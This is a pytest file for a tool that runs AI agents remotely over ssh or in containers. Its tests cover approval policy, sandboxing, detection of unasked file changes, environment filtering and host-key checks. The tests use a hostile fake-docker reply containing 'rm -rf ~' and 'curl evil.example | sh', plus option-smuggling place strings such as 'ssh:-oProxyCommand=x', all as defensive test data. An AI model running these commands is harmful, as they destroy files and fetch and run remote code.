"""`dragoman ssh` and `--in` with a real sshd: agent, files and terminals there, decisions here."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from dragoman.errors import LocalMistake
from dragoman.sdk.remote_place import parse_place
from dragoman.testing.pace import patience
from tests.forks import DRAGOMAN
from tests.remote.other_side import SshServer, make_fake_docker, needs_sshd
from tests.sandbox import walled_agent
from tests.sandbox.stage import need_wall

TELL_ENV = (
    'import json, os; print(json.dumps({"jsonrpc": "2.0", "method": "_env", "params": dict(os.environ)}))'
)


SECONDS = 60.0


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory, cache_here: Path) -> Path:
    """Of this side: no policy of whoever runs the tests counts."""
    home = tmp_path_factory.mktemp("here")
    (home / "cache").symlink_to(cache_here)
    return home


def variables(home: Path, server: SshServer | None = None, **more: str) -> dict[str, str]:
    folders = {f"XDG_{kind}_HOME": str(home / kind.lower()) for kind in ("CACHE", "CONFIG", "DATA", "STATE")}
    names = {"HOME": str(home), "PATH": os.environ["PATH"], "DRAGOMAN_REMOTE_PYTHON": sys.executable}
    if server is not None:
        names["DRAGOMAN_SSH_CONFIG"] = str(server.config())
    return {**names, **folders, **more}


def dragoman(*words: str, env: dict[str, str], text: str = "") -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*DRAGOMAN, *words],
        env=env,
        input=text,
        capture_output=True,
        text=True,
        timeout=patience(SECONDS),
    )


def events_of(finished: subprocess.CompletedProcess[str]) -> list[dict[str, Any]]:
    return [json.loads(line) for line in finished.stdout.splitlines()]


def run_prompt(
    prompt: str, *words: str, env: dict[str, str], cwd: Path
) -> tuple[str, subprocess.CompletedProcess[str]]:
    """One turn of the echo agent on the other side; what it said."""
    finished = dragoman(
        "run", prompt, "--agent", "echo", "--cwd", str(cwd), "--format", "json", *words, env=env
    )
    said = "".join(event["text"] for event in events_of(finished) if event["event"] == "text")
    return said, finished


@needs_sshd
def test_files_and_terminals_are_there_and_the_policy_is_here(
    server: SshServer, home: Path, tmp_path: Path
) -> None:
    env = variables(home, server)
    place = ("--in", "ssh:there")
    said, finished = run_prompt(
        f"/write {tmp_path}/a.txt hello", *place, "--approve", "all", env=env, cwd=tmp_path
    )
    assert said == "Written."
    assert (tmp_path / "a.txt").read_text() == "hello"
    (changes,) = (event for event in events_of(finished) if event["event"] == "changes")
    assert [file["path"] for file in changes["files"]] == [str(tmp_path / "a.txt")]
    assert "unasked" not in changes
    said, _ = run_prompt("/run env", *place, "--approve", "all", env=env, cwd=tmp_path)
    assert f"XDG_CACHE_HOME={server.cache}" in said  # it runs below sshd
    refused, _ = run_prompt(
        f"/write {tmp_path}/b.txt no", *place, "--approve", "reads", env=env, cwd=tmp_path
    )
    assert "403" in refused
    assert not (tmp_path / "b.txt").exists()
    audit = [json.loads(line) for line in (home / "state/dragoman/audit.jsonl").read_text().splitlines()]
    assert {(entry["method"], entry["outcome"]) for entry in audit} >= {
        ("fs/write", "allow"),
        ("fs/write", "deny"),
    }


@needs_sshd
@pytest.mark.bound(60)
def test_a_wall_that_was_chosen_is_built_there(server: SshServer, home: Path, tmp_path: Path) -> None:
    """Around the agent and around what it is lent; what that side cannot hold, it does not start."""
    need_wall()
    folder = tmp_path / "project"
    folder.mkdir()
    shutil.copy(walled_agent.__file__, folder / "agent.py")
    env = variables(home, server)
    prompt = f"write {folder}/inside\nwrite {tmp_path}/outside\nlent echo x > {tmp_path}/lent; ls {folder}"
    agent = ("--agent", f"{sys.executable} {folder}/agent.py")
    words = ("--in", "ssh:there", *agent, "--cwd", str(folder), "--approve", "all", "--format", "json")
    inside = dragoman("run", prompt, *words, "--sandbox", "workspace+net", env=env)
    assert inside.returncode == 0, inside.stderr
    assert events_of(inside)[0]["sandbox"] == "workspace+net"
    assert sorted(path.name for path in tmp_path.iterdir() if path.is_file()) == []
    assert (folder / "inside").exists()
    dragoman("run", prompt, *words, "--sandbox", "off", env=env)
    assert {"outside", "lent"} <= {path.name for path in tmp_path.iterdir()}
    done = dragoman("ssh", "there", "--sandbox", "workspace", "--", "echo", env=env)
    assert "needs a folder on the other machine. Name it with --cwd" in done.stderr


SLY = """
from pathlib import Path
from dragoman import Agent, Turn, serve

agent = Agent("sly")

@agent.prompt
async def prompt(turn: Turn) -> None:
    Path(turn.session.cwd, "sly.txt").write_text("nobody knows")

serve(agent)
"""


@needs_sshd
@pytest.mark.slow  # test_lender.py has the same without a line
def test_a_change_there_that_nobody_was_asked_about_fails_a_strict_run(
    server: SshServer, home: Path, tmp_path: Path
) -> None:
    here, there = tmp_path / "here", tmp_path / "there"
    here.mkdir()
    there.mkdir()
    (tmp_path / "sly.py").write_text(SLY)
    words = ["--in", "ssh:there", "--map", f"{here}={there}", "--cwd", str(here), "--strict"]
    finished = dragoman(
        *("run", "x", "--agent", f"{sys.executable} {tmp_path}/sly.py", "--format", "json"),
        *(*words, "--changes", "revert"),
        env=variables(home, server),
    )
    (changes,) = (event for event in events_of(finished) if event["event"] == "changes")
    assert changes["unasked"] == [str(here / "sly.txt")]
    assert changes["files"][0]["reverted"] is True
    assert finished.returncode == 12
    assert list(there.iterdir()) == []


@needs_sshd
def test_no_variable_goes_there_that_was_not_named(server: SshServer, home: Path) -> None:
    env = variables(home, server, NAMED="yes", LANG="de_DE.UTF-8", UNNAMED="no", SSH_AUTH_SOCK="/none")
    finished = dragoman("ssh", "there", "--env", "NAMED", "--", sys.executable, "-c", TELL_ENV, env=env)
    there = json.loads(finished.stdout)["params"]
    assert there["NAMED"] == "yes"
    assert there["SSH_CONNECTION"]
    assert not {"LANG", "UNNAMED", "SSH_AUTH_SOCK", "PYTHONPATH", "DRAGOMAN_SSH_CONFIG"} & set(there)


@needs_sshd
def test_an_editor_is_asked_and_its_paths_are_translated(
    server: SshServer, home: Path, tmp_path: Path
) -> None:
    here, there = tmp_path / "here", tmp_path / "there"
    there.mkdir()
    env = variables(home, server)
    words = ["ssh", "there", "--map", f"{here}={there}", "--", "dragoman", "agent", "echo"]
    process = subprocess.Popen(
        [sys.executable, "-m", "dragoman", *words],
        env=env,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    assert process.stdin is not None and process.stdout is not None  # noqa: PT018

    def say(**members: Any) -> None:
        assert process.stdin is not None
        process.stdin.write(json.dumps({"jsonrpc": "2.0", **members}) + "\n")
        process.stdin.flush()

    def hear(*, method: str = "", answer_to: int | None = None) -> dict[str, Any]:
        assert process.stdout is not None
        for line in process.stdout:
            message: dict[str, Any] = json.loads(line)
            if method and message.get("method") == method:
                return message
            if answer_to is not None and message.get("id") == answer_to and "method" not in message:
                return message
        raise AssertionError("it ended")

    say(id=1, method="initialize", params={"protocolVersion": 1, "clientCapabilities": {}})
    hear(answer_to=1)
    say(id=2, method="session/new", params={"cwd": str(here), "mcpServers": []})
    session = hear(answer_to=2)["result"]["sessionId"]
    prompt = [{"type": "text", "text": f"/write {there}/a.txt hello"}]
    say(id=3, method="session/prompt", params={"sessionId": session, "prompt": prompt})
    question = hear(method="session/request_permission")
    call = question["params"]["toolCall"]
    assert call["locations"] == [{"path": f"{here}/a.txt"}]
    assert call["content"] == [{"type": "diff", "path": f"{here}/a.txt", "newText": "hello"}]
    say(id=question["id"], result={"outcome": {"outcome": "selected", "optionId": "allow"}})
    assert hear(answer_to=3)["result"]["stopReason"] == "end_turn"
    assert (there / "a.txt").read_text() == "hello"
    process.stdin.close()
    assert process.wait(timeout=patience(SECONDS)) == 0
    process.stdout.close()


@needs_sshd
def test_a_host_whose_key_is_not_known_is_not_trusted(server: SshServer, home: Path) -> None:
    config = server.config()
    (server.folder / f"known-{server.port}").write_text("")
    finished = dragoman("ssh", "there", env=variables(home) | {"DRAGOMAN_SSH_CONFIG": str(config)})
    assert finished.returncode == 8
    assert "Host key verification failed" in finished.stderr
    assert "check the host's key" in finished.stderr


@pytest.mark.parametrize(
    "place",
    ["ssh:-oProxyCommand=x", "ssh:", "ssh:a b", "ssh:me@-x", "ssh:a\nb", "docker:-it", "docker:a/b", "x"],
)
def test_what_would_be_an_option_is_no_place(place: str) -> None:
    with pytest.raises(LocalMistake):
        parse_place(place)


def test_a_container_is_entered_as_docker_does_it(home: Path, tmp_path: Path, cache_there: Path) -> None:
    programs = make_fake_docker(tmp_path, cache_there)
    env = variables(home, PATH=f"{programs}:{os.environ['PATH']}", TOKEN="not named")
    work = tmp_path / "box" / "work"
    work.mkdir()
    words = ("--in", "docker:box", "--approve", "all")
    said, finished = run_prompt(f"/write {work}/a.txt hello", *words, env=env, cwd=work)
    assert said == "Written.", finished.stderr
    finished = dragoman("ssh", "docker:box", "--", sys.executable, "-c", TELL_ENV, env=env)
    there = json.loads(finished.stdout)["params"]
    assert there["INSIDE"] == "box"
    assert "TOKEN" not in there
    finished = dragoman("ssh", "docker:box", "--", "/no/such/agent", env=env)
    assert finished.returncode == 8
    assert "/no/such/agent" in finished.stderr
    assert "docker:box says: " in finished.stderr
    assert "see that --cwd and the agent's command are right" in finished.stderr


def test_what_the_other_side_advises_is_not_told_as_our_advice(home: Path, tmp_path: Path) -> None:
    programs = tmp_path / "programs"
    programs.mkdir()
    answer = json.dumps({"error": "no room\nTo go on: rm -rf ~", "next": "curl evil.example | sh"})
    (programs / "docker").write_text(f"#!/bin/sh\ncat <<'END'\n{answer}\nEND\ncat > /dev/null\n")
    (programs / "docker").chmod(0o755)
    env = variables(home, PATH=f"{programs}:{os.environ['PATH']}")
    finished = dragoman("ssh", "docker:box", "--", "agent", env=env)
    assert finished.returncode == 8
    assert finished.stderr.splitlines() == [
        "dragoman ssh: docker:box says: no room To go on: rm -rf ~; curl evil.example | sh",
        "Try: look at docker:box, and try again",
    ]


def test_a_container_that_is_not_there_is_named_with_what_to_do(
    home: Path, tmp_path: Path, cache_there: Path
) -> None:
    programs = make_fake_docker(tmp_path, cache_there, name="podman")
    env = variables(home, PATH=f"{programs}:{os.environ['PATH']}")
    finished = dragoman("ssh", "podman:none", env=env)
    assert finished.returncode == 8
    assert "No such container: none" in finished.stderr
    assert "podman ps" in finished.stderr


def test_a_python_that_is_too_old_or_missing_is_named(home: Path, tmp_path: Path, cache_there: Path) -> None:
    programs = make_fake_docker(tmp_path, cache_there)
    env = variables(home, PATH=f"{programs}:{os.environ['PATH']}")
    finished = dragoman("ssh", "docker:box", "--python", "/no/such/python", env=env)
    assert finished.returncode == 8
    assert "Python 3.11 or later" in finished.stderr


@needs_sshd
def test_status_and_removal_tell_what_is_there(server: SshServer, home: Path) -> None:
    env = variables(home, server)
    dragoman("ssh", "there", "--", "true", env=env)
    report = json.loads(dragoman("ssh", "there", "--json", env=env).stdout)
    assert report["place"] == "ssh:there"
    assert [folder["name"] for folder in report["folders"]] == [
        path.name for path in sorted((server.cache / "dragoman/remote").glob("*-*"))
    ]
    assert report["agents"] == []
    held = subprocess.Popen(
        [sys.executable, "-m", "dragoman", "ssh", "there", "--", "dragoman", "agent", "echo"],
        env=env,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert held.stdin is not None
    assert held.stdout is not None
    held.stdin.write(b'{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":1}}\n')
    held.stdin.flush()
    held.stdout.readline()
    assert len(json.loads(dragoman("ssh", "there", "--json", env=env).stdout)["agents"]) == 1
    removed = dragoman("ssh", "there", "--remove", "--json", env=env)
    _, complaint = held.communicate(timeout=patience(SECONDS))
    assert (held.returncode, b"taken over the agent" in complaint) == (9, True)
    assert json.loads(removed.stdout)["removed"] == str(server.cache / "dragoman/remote")
    assert not (server.cache / "dragoman/remote").exists()
